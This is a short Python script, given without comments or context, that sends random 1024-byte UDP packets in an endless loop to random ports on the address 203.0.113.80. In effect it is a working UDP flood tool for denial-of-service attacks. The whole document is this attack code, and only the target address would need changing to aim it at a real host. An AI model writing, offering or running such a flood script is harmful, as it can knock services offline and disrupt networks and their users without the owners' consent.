import socket, random
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data = random.randbytes(1024)
print("go")
while True:
    s.sendto(data, ("203.0.113.80", random.randint(1, 65535)))
